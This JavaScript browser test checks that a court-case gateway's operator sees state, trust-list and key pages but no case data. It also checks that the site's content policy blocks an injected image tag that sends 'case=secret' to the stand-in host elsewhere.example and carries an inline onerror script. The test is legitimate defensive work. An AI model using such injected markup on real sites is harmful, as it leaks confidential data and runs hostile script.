// operator_journey.mjs ADDRESS STATE: who runs the gateway sees its state, the trust list and the keys, and no case.
import { say } from './court.mjs'
import { accountsOf, check, checkNothingRefused, desktop, finish, look, person, phone, signIn, startBrowser, step } from './browser.mjs'

const [address, state] = process.argv.slice(2)
const { operator } = accountsOf(state)
const browser = await startBrowser()

for (const [at, language] of [[desktop, 'zh'], [phone, 'en']]) {
  await step(`at ${at.width}`, async () => {
    const who = { ...(await person(browser, { address, at, language })), words: say[language] }
    await who.page.goto('/app/operator/state')
    await signIn(who, operator)
    for (const [name, text] of [['state', who.words.ready], ['trust', who.words.listInForce], ['keys', who.words.ownKeys]]) {
      await who.page.goto(`/app/operator/${name}`)
      await who.page.getByText(text).first().waitFor()
      await look(who, `operator-${name}`)
      check(`no case on ${name}`, false, (await who.page.locator('main').innerText()).includes('民初'))
    }
    check('nor may it ask for one', 403, (await who.context.request.get('/v1/submissions')).status())
    checkNothingRefused(who, 'the operator')
    await who.context.close()
  })
}

// What a page is made to try is refused, and comes to the gateway's log and numbers (web_test looks).
await step('a page under attack', async () => {
  const { context, page, refused } = await person(browser, { address })
  await page.goto('/app/')
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src="https://elsewhere.example/a.png?case=secret" onerror="window.ran = true">'))
  for (let i = 0; i < 100 && refused.length < 2; i++) await page.waitForTimeout(100)
  check('a foreign picture and a script are refused', [true, true], ['img-src https://elsewhere.example', 'script-src-attr inline'].map((what) => refused.some((one) => one.startsWith(what))))
  check('and the script did not run', undefined, await page.evaluate(() => window.ran))
  await page.waitForTimeout(1000)
  await context.close()
})

await browser.close()
finish()
